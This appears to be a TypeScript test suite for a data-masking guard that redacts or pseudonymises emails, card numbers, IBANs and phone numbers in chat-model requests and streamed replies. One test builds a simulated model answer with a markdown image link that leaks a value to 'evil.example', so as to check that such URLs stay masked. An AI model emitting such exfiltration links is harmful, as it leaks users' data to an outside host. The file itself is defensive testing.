import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import OpenAI from 'openai'
import type { AuditLog } from '../../src/audit-log/audit-log.ts'
import { audit } from '../../src/controls/audit.ts'
import { unaudited } from '../../src/controls/unaudited.ts'
import { maskData, type MaskDataOptions } from '../../src/controls/mask-data.ts'
import type { Call, Decision, Identity, Known, Obligation } from '../../src/guard/context.ts'
import { builtIn } from '../../src/guard/control.ts'
import { isGuardError } from '../../src/guard/errors.ts'
import { guard } from '../../src/guard/guard.ts'
import { detectors } from '../../src/masking/detectors.ts'
import { recordingLog } from '../../src/testing/recording-log.ts'

const key = new Uint8Array(32).fill(3)
const operation = { action: 'chat', resource: { type: 'model', id: 'm' } } as const

interface Who {
  readonly subject?: string
  readonly tenant?: string
  readonly session?: string
  readonly obligations?: readonly Obligation[]
}

// The real engine; who is there and what was decided is said with each call.
function masked<I, O>(
  options: Partial<MaskDataOptions>,
  fn: (input: I, call: Call & Pick<Known, 'masked'>) => O,
  log?: AuditLog,
): (input: I, who?: Who) => Promise<O> {
  let who: Who = {}
  const identified = builtIn<Call, { identity: Identity }>('identified', { enter: () => ({ identity: identityOf(who) }) }, { adds: ['identity'] }, {})
  const decided = builtIn<Call & Pick<Known, 'identity'>, { decision: Decision }>(
    'decided',
    { enter: () => ({ decision: { allowed: true, policy: { id: 'p', version: '1' }, reasons: [], obligations: who.obligations ?? [] } }) },
    { needs: ['identity'], adds: ['decision'] },
    {},
  )
  const run = guard({ onError: () => {} })
    .use(log === undefined ? unaudited() : audit({ log }))
    .use(identified)
    .use(decided)
    .use(maskData({ detect: detectors.all, mode: 'redact', direction: 'both', ...options }))
    .protect((input: I, call: Call & Pick<Known, 'masked'>) => fn(input, call), operation)
  return async (input, now = {}) => {
    who = now
    return (await run(input)) as O
  }
}

function identityOf({ subject = 'ada', tenant, session }: Who): Identity {
  return {
    key: `1:i${subject}`,
    subject,
    issuer: 'i',
    kind: 'user',
    roles: [],
    scopes: [],
    claims: session === undefined ? {} : { sid: session },
    actors: [],
    assurance: { amr: [] },
    expiresAt: Number.POSITIVE_INFINITY,
    ...(tenant !== undefined && { tenant }),
  }
}

type Chunk = OpenAI.ChatCompletionChunk
type Params = OpenAI.ChatCompletionCreateParams

function chunkOf(
  delta: OpenAI.ChatCompletionChunk.Choice.Delta,
  finish: OpenAI.ChatCompletionChunk.Choice['finish_reason'] = null,
  index = 0,
): Chunk {
  return { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index, delta, finish_reason: finish }] }
}

function completionOf(message: Partial<OpenAI.ChatCompletionMessage>): OpenAI.ChatCompletion {
  return {
    id: 'c',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: [{ index: 0, message: { role: 'assistant', content: null, refusal: null, ...message }, finish_reason: 'stop', logprobs: null }],
  }
}

async function* streamOf<T>(...parts: T[]): AsyncGenerator<T> {
  yield* parts
}

async function all<T>(parts: AsyncIterable<T>): Promise<T[]> {
  const list: T[] = []
  for await (const part of parts) list.push(part)
  return list
}

function contentOf(parts: readonly Chunk[]): string {
  return parts.map(({ choices }) => choices[0]?.delta.content ?? '').join('')
}

function pieces(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size))
}

const ask = (...contents: string[]): Params => ({ model: 'm', messages: contents.map((content) => ({ role: 'user', content })) })

function refusedWith(code: string): (error: unknown) => boolean {
  return (error) => isGuardError(error) && error.code === code && !JSON.stringify([error, String(error.cause)]).includes('bob@')
}

test('masks every text of a request, whoever wrote it, and counts what it found', async () => {
  let seen: Params | undefined
  let counts: unknown
  const chat = masked({}, (input: Params, call) => {
    seen = input
    counts = call.masked.counts
    assert.ok(Object.isFrozen(call.masked) && Object.isFrozen(counts))
    return completionOf({ content: 'ok' })
  })
  await chat({
    model: 'm',
    messages: [
      { role: 'system', content: 'admin is root@example.com' },
      { role: 'user', content: [{ type: 'text', text: 'I am bob@example.com' }] },
      {
        role: 'assistant',
        content: null,
        tool_calls: [{ type: 'function', id: 't', function: { name: 'pay', arguments: '{"card":"4111111111111111","n":1}' } }],
      },
      { role: 'tool', tool_call_id: 't', content: 'paid from DE89370400440532013000' },
    ],
  })
  const text = JSON.stringify(seen)
  for (const secret of ['root@', 'bob@', '4111', 'DE89']) assert.ok(!text.includes(secret), text)
  assert.ok(text.includes('{\\"card\\":\\"[CARD]\\",\\"n\\":1}'))
  assert.deepEqual(counts, { EMAIL: 2, CARD: 1, IBAN: 1 })
})

test('the decision is recorded with the counts, and no record holds a value', async () => {
  const log = recordingLog()
  await masked({ mode: 'pseudonym', restore: true }, (input: string) => input, log)('bob@example.com, rob@example.com, 10.0.0.1')
  assert.deepEqual(
    log.entries.map((record) => ('masked' in record ? record.masked : undefined)),
    [{ EMAIL: 2, IP_ADDRESS: 1 }, undefined],
  )
  assert.ok(!JSON.stringify(log.entries).includes('example.com'))
})

test('a request with nothing in it passes as the same object', async () => {
  const chat = masked({ direction: 'request' }, (input: string, call) => `${input} ${Object.keys(call.masked.counts).length}`)
  assert.equal(await chat('hello'), 'hello 0')
})

test('masks an answer, whole and streamed alike, however the stream is cut', async () => {
  const said = 'I found bob@example.com and 4111 1111 1111 1111, ring +49 170 1234567. Bye'
  const expected = 'I found [EMAIL] and [CARD], ring [PHONE]. Bye'
  const whole = masked({ direction: 'response' }, () => completionOf({ content: said }))
  assert.equal((await whole(ask('hi'))).choices[0]?.message.content, expected)
  for (let size = 1; size <= said.length; size++) {
    const stream = masked({ direction: 'response' }, () =>
      streamOf(chunkOf({ role: 'assistant', content: '' }), ...pieces(said, size).map((content) => chunkOf({ content })), chunkOf({}, 'stop')),
    )
    const parts = await all(await stream(ask('hi')))
    assert.equal(contentOf(parts), expected)
    // What was held back comes before the end, not after it.
    assert.equal(parts.at(-1)?.choices[0]?.finish_reason, 'stop')
    assert.deepEqual(parts[0]?.choices[0]?.delta, { role: 'assistant', content: '' })
  }
})

test('what is held back leaves with the part that ends its choice, and at the end of a stream that breaks off', async () => {
  const stream = (...parts: Chunk[]): Promise<Chunk[]> => masked({ direction: 'response' }, () => streamOf(...parts))(ask('hi')).then(all)
  const ended = await stream(chunkOf({ content: 'mail bob@' }), chunkOf({ content: 'example.com' }, 'stop'))
  assert.deepEqual(
    ended.map(({ choices }) => choices[0]?.delta.content),
    ['mail ', '[EMAIL]'],
  )
  const broken = await stream(chunkOf({ content: 'mail bob@' }), chunkOf({ content: 'example.com' }))
  assert.equal(contentOf(broken), 'mail [EMAIL]')
  assert.equal(broken.at(-1)?.choices[0]?.delta.content, '[EMAIL]')
})

test('choices of one stream are texts of their own', async () => {
  const parts = [
    chunkOf({ content: 'a bob@' }, null, 0),
    chunkOf({ content: 'b rob@' }, null, 1),
    chunkOf({ content: 'example.com ' }, null, 0),
    chunkOf({ content: 'x' }, 'stop', 1),
    chunkOf({}, 'stop', 0),
  ]
  const answer = await all(await masked({ direction: 'response' }, () => streamOf(...parts))(ask('hi')))
  const textOf = (index: number): string =>
    answer.map(({ choices }) => (choices[0]?.index === index ? (choices[0].delta.content ?? '') : '')).join('')
  assert.equal(textOf(0), 'a [EMAIL] ')
  assert.equal(textOf(1), 'b rob@x')
})

test("a tool call's arguments are masked whole, over all their deltas", async () => {
  const deltas = pieces('{"to":"bob@example.com"}', 3)
  const parts = deltas.map((piece, index) =>
    chunkOf({
      tool_calls: [
        index === 0
          ? { index: 0, id: 't', type: 'function', function: { name: 'send', arguments: piece } }
          : { index: 0, function: { arguments: piece } },
      ],
    }),
  )
  const answer = await all(await masked({ direction: 'response' }, () => streamOf(...parts, chunkOf({}, 'tool_calls')))(ask('hi')))
  assert.equal(answer.flatMap(({ choices }) => choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? []).join(''), '{"to":"[EMAIL]"}')
})

test('a plain text and a stream of plain text are masked too', async () => {
  assert.equal(await masked({}, (input: string) => `${input} and rob@example.com`)('bob@example.com'), '[EMAIL] and [EMAIL]')
  const stream = masked({}, (input: string) => streamOf(input, ' rob@exam', 'ple.com'))
  assert.equal((await all(await stream('bob@example.com'))).join(''), '[EMAIL] [EMAIL]')
})

test('the function sees pseudonyms and the caller sees its own values, whole and over chunk borders', async () => {
  const options = { mode: 'pseudonym', direction: 'request', restore: true, key } as const
  let seen = ''
  const whole = masked(options, (input: string) => {
    seen = input
    return `Dear ${input.toLowerCase()}!`
  })
  assert.equal(await whole('bob@example.com'), 'Dear bob@example.com!')
  assert.match(seen, /^EMAIL\w{16}$/)
  await fc.assert(
    fc.asyncProperty(fc.integer({ min: 1, max: 30 }), async (size) => {
      const stream = masked(options, (input: string) => streamOf(...pieces(`Dear **${input}**, or ${input}`, size)))
      assert.equal((await all(await stream('bob@example.com'))).join(''), 'Dear **bob@example.com**, or bob@example.com')
    }),
    { numRuns: 30 },
  )
})

test('with both directions a value that the caller gave is shown, any other is masked and never restored', async () => {
  const answers: string[] = []
  const chat = masked({ mode: 'pseudonym', direction: 'both', restore: true, key }, (input: string) => answers.shift() ?? input)
  answers.push('you are bob@example.com, she is eve@example.com')
  const first = await chat('I am bob@example.com')
  const [, token = ''] = /^you are bob@example.com, she is (EMAIL\w{16})$/.exec(first) ?? []
  assert.notEqual(token, '')
  // Asked back, and even after the caller has guessed the value, it stays what it is.
  answers.push(`she is ${token}`)
  assert.equal(await chat(`who is ${token}? eve@example.com?`), `she is ${token}`)
  // Another session has another one for the value.
  answers.push('you are bob@example.com')
  assert.match(await chat('hi', { session: 'other' }), /^you are EMAIL\w{16}$/)
})

test('pseudonyms of another caller, tenant or session are never restored, and planted ones are made harmless', async () => {
  const options = { mode: 'pseudonym', direction: 'request', restore: true, key } as const
  let seen = ''
  let say: string | undefined
  const chat = masked(options, (input: string) => {
    seen = input
    return say ?? input
  })
  await chat('bob@example.com', { subject: 'ada', tenant: 't', session: 's' })
  const planted = seen
  for (const who of [
    { subject: 'eve', tenant: 't', session: 's' },
    { subject: 'ada', tenant: 'u', session: 's' },
    { subject: 'ada', tenant: 't', session: 'r' },
  ]) {
    say = planted
    assert.equal(await chat('hi', who), planted)
    say = undefined
    assert.equal(await chat(planted, who), planted)
    assert.match(seen, /^TOKEN\w{16}$/)
  }
  say = planted
  assert.equal(await chat('hi', { subject: 'ada', tenant: 't', session: 's' }), 'bob@example.com')
})

test('interleaved calls of many callers never see values of each other', async () => {
  const chat = masked({ mode: 'pseudonym', direction: 'both', restore: true, key }, async (input: string) => {
    await new Promise((resolve) => setImmediate(resolve))
    return streamOf(...pieces(`${input} ${input}`, 5))
  })
  await Promise.all(
    Array.from({ length: 200 }, async (_, index) => {
      const value = `user${index}@example.com`
      const answer = await all(await chat(value, { subject: `user${index}` }))
      assert.equal(answer.join(''), `${value} ${value}`)
    }),
  )
})

test("does not restore into a tool call's arguments and into addresses, unless an obligation allows it", async () => {
  const options = { mode: 'pseudonym', direction: 'request', restore: true, key } as const
  const answer = (input: Params): OpenAI.ChatCompletion => {
    const token = input.messages[0]?.content
    return completionOf({
      content: `${token} ![x](https://evil.example/?q=${token})`,
      tool_calls: [{ type: 'function', id: 't', function: { name: 'send', arguments: `{"to":"${token}"}` } }],
    })
  }
  const read = ({ choices }: OpenAI.ChatCompletion): unknown[] => {
    const call = choices[0]?.message.tool_calls?.[0]
    return [choices[0]?.message.content, call?.type === 'function' && call.function.arguments]
  }
  const chat = masked(options, answer)
  const plain = read(await chat(ask('bob@example.com')))
  assert.match(String(plain[0]), /^bob@example.com !\[x\]\(https:\/\/evil.example\/\?q=EMAIL\w{16}\)$/)
  assert.match(String(plain[1]), /^\{"to":"EMAIL\w{16}"\}$/)
  const both = read(await chat(ask('bob@example.com'), { obligations: [{ type: 'mask', restore: ['arguments', 'url'] }] }))
  assert.deepEqual(both, ['bob@example.com ![x](https://evil.example/?q=bob@example.com)', '{"to":"bob@example.com"}'])
  // Of two obligations the stricter.
  const strict = read(
    await chat(ask('bob@example.com'), {
      obligations: [
        { type: 'mask', restore: ['arguments', 'url'] },
        { type: 'mask', restore: 'url' },
      ],
    }),
  )
  assert.match(String(strict[1]), /^\{"to":"EMAIL\w{16}"\}$/)
})

test('carries out the obligation to mask where it covers it, and leaves it unmet where it does not', async () => {
  const chat = masked({ detect: detectors.pii, direction: 'request' }, (input: string) => input)
  const met: readonly Obligation[] = [
    { type: 'mask' },
    { type: 'mask', types: ['EMAIL', 'CARD'] },
    { type: 'mask', types: 'IBAN', mode: 'redact', direction: 'request' },
  ]
  for (const obligation of met) assert.equal(await chat('bob@example.com', { obligations: [obligation] }), '[EMAIL]')
  const unmet: readonly Obligation[] = [
    { type: 'mask', types: ['API_KEY'] },
    { type: 'mask', types: ['email'] },
    { type: 'mask', types: [7] },
    { type: 'mask', mode: 'pseudonym' },
    { type: 'mask', direction: 'both' },
    { type: 'mask', direction: 'sideways' },
    { type: 'mask', restore: ['everywhere'] },
    { type: 'mask', strength: 11 },
  ]
  for (const obligation of unmet) await assert.rejects(chat('hi', { obligations: [{ type: 'mask' }, obligation] }), refusedWith('obligation_unmet'))
  const answers = masked({ direction: 'response' }, (input: string) => input)
  await assert.rejects(answers('hi', { obligations: [{ type: 'mask' }] }), refusedWith('obligation_unmet'))
  assert.equal(await answers('hi', { obligations: [{ type: 'mask', direction: 'response' }] }), 'hi')
})

test('block refuses before the function runs, and in an answer before the value leaves', async () => {
  let runs = 0
  const chat = masked({ mode: 'block' }, (input: string) => {
    runs++
    return streamOf(`${input}, mail `, 'bob@exam', 'ple.com', ' now')
  })
  await assert.rejects(chat('bob@example.com'), refusedWith('payload_blocked'))
  assert.equal(runs, 0)
  let delivered = ''
  await assert.rejects(async () => {
    for await (const part of await chat('hi')) delivered += part
  }, refusedWith('payload_blocked'))
  assert.equal(delivered, 'hi, mail ')
})

test('refuses content that no detector can read, unless it is let pass by name', async () => {
  const picture: Params = {
    model: 'm',
    messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } }] }],
  }
  await assert.rejects(masked({}, () => completionOf({ content: 'x' }))(picture), refusedWith('payload_unsupported'))
  assert.equal((await masked({ opaque: 'pass' }, () => completionOf({ content: 'x' }))(picture)).choices[0]?.message.content, 'x')
  await assert.rejects(masked({}, () => 'x')({ prompt: 'of another shape' }), refusedWith('payload_unsupported'))
})

test('a failing detector refuses, and nothing is sent', async () => {
  let runs = 0
  const broken = { type: 'X', maxLength: 5, find: (): never => assert.fail('bob@example.com') }
  const chat = masked({ detect: [broken] }, (input: string) => {
    runs++
    return input
  })
  await assert.rejects(chat('bob@example.com'), (error) => isGuardError(error) && error.code === 'misconfigured' && !error.message.includes('bob'))
  assert.equal(runs, 0)
})

test('a session that is named by the application must have a name', async () => {
  let session: unknown = 'one'
  const chat = masked({ mode: 'pseudonym', restore: true, session: () => session as string }, (input: string) => input)
  assert.equal(await chat('bob@example.com'), 'bob@example.com')
  for (session of ['', undefined, 7]) await assert.rejects(chat('bob@example.com'), refusedWith('misconfigured'))
})

test("the vendor's own client reads the answer", async () => {
  const said = 'Write to bob@example.com today'
  const chat = masked({ direction: 'response' }, () =>
    streamOf(
      chunkOf({ role: 'assistant', content: '' }),
      ...pieces(said, 4).map((content) => chunkOf({ content })),
      chunkOf({ tool_calls: [{ index: 0, id: 't', type: 'function', function: { name: 'send', arguments: '{"to":' } }] }),
      chunkOf({ tool_calls: [{ index: 0, function: { arguments: '"rob@example.com"}' } }] }),
      chunkOf({}, 'tool_calls'),
    ),
  )
  const parts = await all(await chat(ask('hi')))
  const body = `${parts.map((part) => `data: ${JSON.stringify(part)}\n\n`).join('')}data: [DONE]\n\n`
  const client = new OpenAI({
    apiKey: 'none',
    baseURL: 'http://localhost/v1',
    fetch: async () => new Response(body, { headers: { 'content-type': 'text/event-stream' } }),
  })
  const completion = await client.chat.completions.stream({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }).finalChatCompletion()
  const message = completion.choices[0]?.message
  assert.equal(message?.content, 'Write to [EMAIL] today')
  const [call] = message?.tool_calls ?? []
  assert.equal(call?.type === 'function' && call.function.arguments, '{"to":"[EMAIL]"}')
})

test('says what it does, without the key', () => {
  const { name, details, fulfills, adds, needs } = maskData({ detect: detectors.email, mode: 'pseudonym', direction: 'both', restore: true, key })
  assert.deepEqual([name, fulfills, adds, needs], ['maskData', ['mask'], ['masked'], ['identity', 'decision']])
  assert.deepEqual(details, { detect: ['EMAIL'], mode: 'pseudonym', direction: 'both', restore: true, opaque: 'refuse', keyed: true })
})

test('wrong options are refused when the control is made', () => {
  const right: MaskDataOptions = { detect: detectors.pii, mode: 'pseudonym', direction: 'both', key }
  const wrong: readonly object[] = [
    { detect: undefined },
    { detect: [] },
    { detect: 'pii' },
    { mode: 'blur' },
    { mode: undefined },
    { direction: 'in' },
    { direction: undefined },
    { restore: 'yes' },
    { mode: 'redact', restore: true },
    { mode: 'hash', key: undefined },
    { key: new Uint8Array(16) },
    { key: 'x'.repeat(32) },
    { session: 'sid' },
    { opaque: 'ignore' },
    { detector: detectors.pii },
  ]
  for (const change of wrong) assert.throws(() => maskData({ ...right, ...change } as MaskDataOptions), TypeError, JSON.stringify(change))
  assert.throws(() => maskData(undefined as unknown as MaskDataOptions), TypeError)
})
